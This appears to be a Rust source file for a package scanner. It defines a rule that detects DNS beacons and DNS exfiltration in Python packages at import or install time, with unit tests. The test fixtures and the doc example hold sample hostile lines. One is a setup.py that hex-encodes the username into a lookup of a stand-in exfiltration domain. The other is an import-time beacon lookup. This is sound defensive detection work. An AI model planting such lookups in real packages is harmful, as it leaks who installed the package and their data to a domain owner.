use super::vocab;
use crate::declare_rule;
use crate::inspect::rules::{Rule, RuleMeta};
use crate::inspect::{Analysis, Finding, Severity, Stage};

declare_rule! {
    /// ## What it does
    /// Flags a DNS lookup of a fixed host name (`socket.gethostbyname`,
    /// `getaddrinfo`, `dns.resolver.resolve`) made when the package is
    /// imported or installed.
    ///
    /// ## Why is this bad?
    /// A lookup is a message: whoever runs the name server learns that this
    /// package was installed or imported, from which network, and when —
    /// even where HTTP is blocked. Dependency-confusion probes use exactly
    /// this, often with the package's own name in the host.
    ///
    /// ## Example
    /// ```python
    /// # pkg/__init__.py
    /// socket.gethostbyname("pkg.probe.example.net")        # Error
    /// def reachable(): return socket.gethostbyname(HOST)    # No error: when called
    /// ```
    ///
    /// ## False positives
    /// A module that checks connectivity on import; rare, and worth a look.
    DnsBeacon, id = "dns-beacon", severity = High,
    summary = "looks up a fixed host name on import or install (a beacon)"
}

const LOOKUPS: &[&str] = &[
    "socket.gethostbyname",
    "socket.gethostbyname_ex",
    "socket.getaddrinfo",
    "dns.resolver.resolve",
    "dns.resolver.query",
    "dns.resolver.Resolver().resolve",
];

/// A DNS name worth reporting: dotted, no spaces, not local, not an address.
fn host_name(s: &str) -> bool {
    let s = s.trim_end_matches('.').to_ascii_lowercase();
    s.contains('.')
        && s.len() <= 253
        && s.chars()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '-' | '_'))
        && s.chars().any(|c| c.is_ascii_alphabetic())
        && !matches!(s.as_str(), "localhost" | "localhost.localdomain")
        && !s.ends_with(".local")
        && !s.ends_with(".localhost")
        // Cloud SDKs probe for the instance metadata service to learn where they run.
        && !s.ends_with(".internal")
}

/// A host name built as `{data}.fixed.domain`: unknown parts in the labels
/// before a fixed registrable domain (two labels or more).
fn data_in_labels(s: &str) -> bool {
    let Some(i) = s.rfind("{}") else { return false };
    let (head, fixed) = (&s[..i], &s[i + 2..]);
    let fixed = fixed.trim_end_matches('.');
    let Some(domain) = fixed.strip_prefix('.') else {
        return false;
    };
    !head.contains(['/', ' ', ':']) && domain.split('.').filter(|l| !l.is_empty()).count() >= 2 && host_name(domain)
}

impl Rule for DnsBeacon {
    fn meta(&self) -> &'static RuleMeta {
        &Self::META
    }

    fn check(&self, analysis: &Analysis, out: &mut Vec<Finding>) {
        let own = analysis
            .name
            .as_deref()
            .map(|n| n.to_ascii_lowercase().replace('-', "_"))
            .filter(|n| n.len() >= 3);
        for unit in analysis.units() {
            // Data carried in the labels of a looked-up name (`f"{hex_data}.x.example.net"`):
            // the DNS resolver delivers it to whoever runs the domain (issue 11).
            if let Some(call) = unit.code.calls.iter().find(|c| {
                LOOKUPS.contains(&c.name.as_str())
                    && c.stage != Stage::Auxiliary
                    && c.arg_strs.first().is_some_and(|h| data_in_labels(h))
            }) {
                let identity = call
                    .arg_refs
                    .iter()
                    .any(|r| vocab::is_host_identity(r) || vocab::is_host_info(r));
                let severity = match call.stage {
                    Stage::Install | Stage::Import => Severity::Critical,
                    _ if identity => Severity::High,
                    _ => Severity::Medium,
                };
                let host = call.arg_strs.first().map(String::as_str).unwrap_or("");
                let message = format!(
                    "puts data into the labels of the host name it looks up (`{host}`) with {}() {}: DNS exfiltration",
                    call.name,
                    call.stage.describe()
                );
                out.push(unit.finding(Self::META.id, severity, call.line, message).at(call.stage));
                continue;
            }
            let lookup = unit.code.calls.iter().find_map(|c| {
                let at_load = matches!(c.stage, Stage::Import | Stage::Install);
                let host = c.arg_strs.first().filter(|h| host_name(h))?;
                (at_load && LOOKUPS.contains(&c.name.as_str())).then_some((c, host))
            });
            let Some((call, host)) = lookup else { continue };
            let named = own
                .as_deref()
                .is_some_and(|n| host.to_ascii_lowercase().replace('-', "_").contains(n));
            let message = format!(
                "looks up `{host}` with {}() {}{}",
                call.name,
                call.stage.describe(),
                if named {
                    ": the host carries the package's own name, so its owner learns who installed it"
                } else {
                    ""
                }
            );
            out.push(
                unit.finding(Self::META.id, Severity::High, call.line, message)
                    .at(call.stage),
            );
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::archive::Kind;
    use crate::inspect::testing::check;

    #[test]
    fn fires_on() {
        let f = check(
            &DnsBeacon,
            Kind::Wheel,
            &[(
                "pkg/__init__.py",
                "import socket\ntry:\n    socket.gethostbyname('pkg.probe.example.net')\nexcept socket.gaierror:\n    pass\n",
            )],
        );
        assert_eq!((f.len(), f[0].severity), (1, Severity::High), "{f:?}");
    }

    #[test]
    fn fires_on_data_in_labels() {
        // Error (issue 11): host data hex-encoded into the looked-up name at install time.
        let src = "import socket, getpass\ndef send():\n    d = getpass.getuser().encode().hex()\n    socket.gethostbyname(f'{d}.x.exfil-dns.net')\nsend()\n";
        let f = check(&DnsBeacon, Kind::Sdist, &[("pkg-1.0/setup.py", src)]);
        assert_eq!((f.len(), f[0].severity), (1, Severity::Critical), "{f:?}");
        // No error: a URL, a service name with one label, a local name.
        let src = "import socket\nsocket.gethostbyname(f'{host}.local')\nsocket.getaddrinfo(f'{h}', 80)\n";
        assert!(check(&DnsBeacon, Kind::Sdist, &[("pkg-1.0/setup.py", src)]).is_empty());
    }

    #[test]
    fn quiet_on() {
        // Inside a function, an address, or the local host.
        let src = "import socket\ndef up():\n    return socket.gethostbyname('example.com')\n\
                   socket.gethostbyname('127.0.0.1')\nsocket.gethostbyname('localhost')\n\
                   socket.gethostbyname(socket.gethostname())\n";
        assert!(check(&DnsBeacon, Kind::Wheel, &[("pkg/net.py", src)]).is_empty());
    }
}
